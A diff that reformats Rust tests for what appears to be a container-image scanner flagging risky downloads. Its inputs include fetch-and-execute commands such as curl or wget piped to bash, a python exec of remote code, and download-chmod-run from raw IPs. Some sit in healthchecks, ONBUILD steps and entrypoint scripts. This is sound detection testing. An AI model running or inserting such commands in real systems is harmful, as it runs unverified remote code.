@@ -22,10 +22,19 @@ fn a_download_given_to_an_interpreter_counts_by_its_host() {
     check("wget -qO- https://pastebin.com/raw/x | bash\n", &["DLX-DEADDROP?", "DLX-PIPE!"]);
     check("bash <(curl -s https://cdn.discordapp.com/x)\n", &["DLX-DEADDROP?", "DLX-PIPE?"]);
     check("curl -sk https://h.example/x | bash\n", &["DLX-NOVERIFY?", "DLX-PIPE?"]);
-    check("wget --no-check-certificate -qO- https://h.example:4431/x | bash\n", &["DLX-NOVERIFY?", "DLX-PIPE?", "DLX-RAWIP?"]);
+    check(
+        "wget --no-check-certificate -qO- https://h.example:4431/x | bash\n",
+        &["DLX-NOVERIFY?", "DLX-PIPE?", "DLX-RAWIP?"],
+    );
     check("curl -s $URL | sh\n", &["DLX-PIPE?"]);
-    check("python3 -c \"import requests;exec(requests.get('https://h.example/x').text)\"\n", &["DLX-ONELINER?"]);
-    check("python3 -c \"import requests;exec(requests.get('http://192.0.2.7/x').text)\"\n", &["DLX-ONELINER!", "DLX-RAWIP?"]);
+    check(
+        "python3 -c \"import requests;exec(requests.get('https://h.example/x').text)\"\n",
+        &["DLX-ONELINER?"],
+    );
+    check(
+        "python3 -c \"import requests;exec(requests.get('http://192.0.2.7/x').text)\"\n",
+        &["DLX-ONELINER!", "DLX-RAWIP?"],
+    );
     check_command(&Downloads, &["sh", "-c", "curl -s http://192.0.2.7/x | sh"], &["DLX-PIPE!", "DLX-RAWIP?"]);
     check_command(&Downloads, &["/bin/bash", "-c", "bash <(curl -s https://h.example/x)"], &["DLX-PIPE?"]);
 }
@@ -36,7 +45,10 @@ fn a_download_saved_and_run_counts_by_its_host_and_check() {
     check("curl -o /tmp/x http://192.0.2.7/x\nchmod +x /tmp/x\n/tmp/x\n", &["DLX-CHMODRUN!", "DLX-RAWIP?"]);
     check("curl -o x https://h.example/x\necho \"$SUM  x\" | sha256sum -c -\nchmod +x x\n./x\n", &[]);
     // A check says nothing where whoever stands on the way writes both.
-    check("curl -o x http://192.0.2.7/x\necho \"$SUM  x\" | md5sum x\nsha256sum -c x.sum\nchmod +x x\n./x\n", &["DLX-CHMODRUN!", "DLX-RAWIP?"]);
+    check(
+        "curl -o x http://192.0.2.7/x\necho \"$SUM  x\" | md5sum x\nsha256sum -c x.sum\nchmod +x x\n./x\n",
+        &["DLX-CHMODRUN!", "DLX-RAWIP?"],
+    );
     check("curl -o s.c https://h.example/s.c\ngcc -o s s.c\n", &["DLX-COMPILE?"]);
     check("apt-get update && apt-get install -y curl\n", &[]);
 }
@@ -44,13 +56,22 @@ fn a_download_saved_and_run_counts_by_its_host_and_check() {
 #[test]
 fn other_places_that_run() {
     let mut image = Fixture::new();
-    image.config.config.healthcheck.test = vec!["CMD-SHELL".to_owned(), "curl -s https://h.example/x | sh".to_owned()];
+    image.config.config.healthcheck.test =
+        vec!["CMD-SHELL".to_owned(), "curl -s https://h.example/x | sh".to_owned()];
     assert_eq!(counted(&image.run(&Downloads).findings), ["DLX-HEALTH?", "DLX-PIPE?"]);
-    image.config.config.healthcheck.test = vec!["CMD-SHELL".to_owned(), "curl -fs http://localhost:8080/health || exit 1".to_owned()];
+    image.config.config.healthcheck.test =
+        vec!["CMD-SHELL".to_owned(), "curl -fs http://localhost:8080/health || exit 1".to_owned()];
     assert_eq!(counted(&image.run(&Downloads).findings), [""; 0]);
-    image.config.config.on_build = vec!["RUN curl -s https://h.example/x | sh".to_owned(), "RUN npm install".to_owned()];
+    image.config.config.on_build =
+        vec!["RUN curl -s https://h.example/x | sh".to_owned(), "RUN npm install".to_owned()];
     assert_eq!(counted(&image.run(&Downloads).findings), ["DLX-ONBUILD?"]);
-    check_file(&Downloads, "docker-entrypoint.d/99-x.sh", "#!/bin/sh\ncurl -s https://h.example/x | sh\n", &[], &["DLX-INITDIR?"]);
+    check_file(
+        &Downloads,
+        "docker-entrypoint.d/99-x.sh",
+        "#!/bin/sh\ncurl -s https://h.example/x | sh\n",
+        &[],
+        &["DLX-INITDIR?"],
+    );
     check_file(
         &Downloads,
         "docker-entrypoint.d/30-tune.sh",
@@ -75,7 +96,10 @@ fn the_history_explains() {
     }
     check_history("RUN /bin/sh -c curl -s http://192.0.2.7/x | sh # buildkit", &["DLX-HIST?"]);
     check_history("RUN /bin/sh -c wget -qO- https://pastebin.com/raw/x | sh # buildkit", &["DLX-HIST?"]);
-    check_history("RUN /bin/sh -c curl -o /usr/local/bin/gosu https://h.example/gosu && gpg --verify gosu.asc /usr/local/bin/gosu && chmod +x /usr/local/bin/gosu && gosu --version # buildkit", &[]);
+    check_history(
+        "RUN /bin/sh -c curl -o /usr/local/bin/gosu https://h.example/gosu && gpg --verify gosu.asc /usr/local/bin/gosu && chmod +x /usr/local/bin/gosu && gosu --version # buildkit",
+        &[],
+    );
 }
 
 #[test]
